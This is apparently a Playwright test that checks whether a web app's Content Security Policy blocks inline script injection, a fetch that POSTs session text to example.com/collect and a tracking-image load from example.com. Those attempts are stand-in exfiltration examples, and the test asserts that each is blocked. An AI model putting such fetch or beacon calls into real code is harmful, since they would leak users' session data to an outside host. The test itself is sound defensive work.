/** The Content Security Policy is in force: no inline script runs, nothing connects beyond the page's origin. */
import { expect, test } from "@playwright/test";

test("a Content Security Policy forbids inline scripts and connections beyond the origin", async ({ page }) => {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
  await page.addInitScript(() =>
    document.addEventListener("securitypolicyviolation", (event) =>
      (window as unknown as { reportViolation: (d: string) => void }).reportViolation(event.effectiveDirective),
    ),
  );
  await page.goto("/");
  await expect(page.getByRole("tree", { name: "Session tree" })).toBeVisible();

  const ran = await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.__inlineRan = true";
    document.body.append(script);
    return (window as unknown as { __inlineRan?: boolean }).__inlineRan ?? false;
  });
  expect(ran).toBe(false);

  const fetched = await page.evaluate(async () => {
    try {
      await fetch("https://example.com/collect", { method: "POST", body: "session text" });
      return "sent";
    } catch {
      return "blocked";
    }
  });
  expect(fetched).toBe("blocked");

  const image = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve("loaded");
        img.onerror = () => resolve("blocked");
        img.src = "https://example.com/tracker.png";
      }),
  );
  expect(image).toBe("blocked");
  await expect.poll(() => violations).toEqual(expect.arrayContaining(["script-src-elem", "connect-src", "img-src"]));
});
